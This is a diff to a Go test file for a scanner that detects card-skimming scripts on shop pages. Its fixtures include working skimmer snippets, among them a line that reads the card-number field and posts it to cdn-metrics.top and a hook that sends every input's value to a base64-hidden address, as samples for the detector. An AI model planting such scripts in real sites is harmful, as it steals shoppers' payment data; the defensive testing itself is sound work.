@@ -61,6 +61,8 @@ var uncertain = map[string]string{
 	"hidden, every field":     `document.querySelectorAll("input, select").forEach(function(i){i.onblur=function(){fetch(atob("` + b64("https://cdn-metrics.top/c") + `"),{body:i.value})}})`,
 	"an imitation":            `s.src="https://www.google-analytlcs.com/ga.js"`,
 	"made-up names":           `var _0x3f2a=['a'];` + strings.Repeat(`_0x3f2a[0x1];`, 30),
+	"an own alphabet":         `var a="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=";d(a,"AhvUy3rPB24")`,
+	"in a list, in plain":     `var t=["[name=cardnumber]","value","[name=cvv]","body"];fetch("https://cdn-metrics.top/c",{[t[3]]:document.querySelector(t[0])[t[1]]})`,
 	"escapes all over":        `window["` + escapes(`\x%02x`, "documentquerySelectoraddEventListenersubmitvalueonblurbody") + `"]()`,
 	"run from base64":         `eval(atob("` + b64(strings.Repeat("console.log('nothing of interest, but long');", 6)) + `"))`,
 	"run from numbers":        `eval(String.fromCharCode(` + codes(strings.Repeat("console.log('nothing');", 4)) + `))`,
@@ -88,7 +90,7 @@ var honest = map[string]string{
 // inPage judges a page with a script in it.
 func inPage(path, script string, role shop.Role) scanner.Finding {
 	p := shop.Page{Role: role, Page: page(path, `<h1>Pay here</h1><p>A page with enough words to be one.</p><script>`+script+`</script>`)}
-	s := search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
+	s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
 	return s.judge("shop.test")
 }
 
@@ -119,7 +121,7 @@ func TestJudgeFile(t *testing.T) {
 	const at = "https://shop.test/a.js"
 	script := func(body string, err error, cut bool) scanner.Finding {
 		p := shop.Page{Role: shop.Login, Page: page("/login", `<h1>Log in</h1><form><input type=password></form><script src="/a.js"></script>`)}
-		s := search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
+		s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
 		b := inventory.Body{Script: s.scripts[0], Err: err}
 		if err == nil {
 			b.File = &observe.Page{Method: "GET", URL: at, Status: 200, Body: []byte(body), Cut: cut, At: p.At}
@@ -152,7 +154,7 @@ func TestNearCards(t *testing.T) {
 		t.Errorf("on the home page: %+v", f)
 	}
 	p := shop.Page{Role: shop.Account, Page: page("/account", `<form method=post>`+number+`</form><script>`+uncertain["made-up names"]+`</script>`)}
-	s := search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
+	s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
 	if f := s.judge("shop.test"); f.Outcome != scanner.Warn {
 		t.Errorf("beside a form for cards: %+v", f)
 	}
@@ -173,7 +175,7 @@ func TestJudgeHosts(t *testing.T) {
 		{"an honest unknown", `<script src="https://cdn.small-chat.example/x.js"></script>`, scanner.Unknown, "limit of script files"},
 	} {
 		p := shop.Page{Role: shop.Checkout, Page: page("/checkout", `<h1>Pay</h1>`+tt.body)}
-		s := search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
+		s := &search{own: own, pages: []shop.Page{p}, scripts: inventory.Of([]shop.Page{p}, own)}
 		if f := s.judge("shop.test"); f.Outcome != tt.want || !strings.Contains(f.Message, tt.says) {
 			t.Errorf("%s: %+v, want %s: %s", tt.name, f, tt.want, tt.says)
 		}
@@ -191,8 +193,36 @@ func TestBuiltPage(t *testing.T) {
 		t.Errorf("judgeMode = %+v", f)
 	}
 	p.Requests = append(p.Requests, observe.Request{Method: "POST", URL: "https://cdn.naturalfreshmall.com/c", Type: "beacon"})
-	s := search{own: own, pages: []shop.Page{{Role: shop.Checkout, Page: p}}}
+	s := &search{own: own, pages: []shop.Page{{Role: shop.Checkout, Page: p}}}
 	if f := s.judge("shop.test"); f.Outcome != scanner.Fail || !strings.Contains(f.Message, "a request to cdn.naturalfreshmall.com") {
 		t.Errorf("judge = %+v", f)
+	}
+}
+
+// TestLongPage: of what stands behind the end of what was read nobody can tell.
+func TestLongPage(t *testing.T) {
+	p := page("/checkout", "<h1>Pay</h1><p>and more, which was not read")
+	p.Cut = true
+	s := &search{own: own, pages: []shop.Page{{Role: shop.Checkout, Page: p}}}
+	if f := s.judge("shop.test"); f.Outcome != scanner.Unknown || !strings.Contains(f.Message, "longer than is read") {
+		t.Errorf("judge = %+v", f)
+	}
+}
+
+// TestCrowd: a page that names more hosts than are looked up costs little, and is
+// not called harmless.
+func TestCrowd(t *testing.T) {
+	var all strings.Builder
+	for i := range 40 {
+		all.WriteString("<script>/* cardnumber cvv .value fetch( mask */")
+		for j := range 150 {
+			fmt.Fprintf(&all, `a("https://h%d-%d.example/")`, i, j)
+		}
+		all.WriteString("</script>")
+	}
+	p := shop.Page{Role: shop.Checkout, Page: page("/checkout", "<h1>Pay</h1>"+all.String())}
+	s := &search{own: own, pages: []shop.Page{p}}
+	if f := s.judge("shop.test"); f.Outcome != scanner.Unknown || !strings.Contains(f.Message, "more addresses") || len(s.asked) > maxAsked {
+		t.Errorf("judge = %+v, %d hosts", f, len(s.asked))
 	}
 }
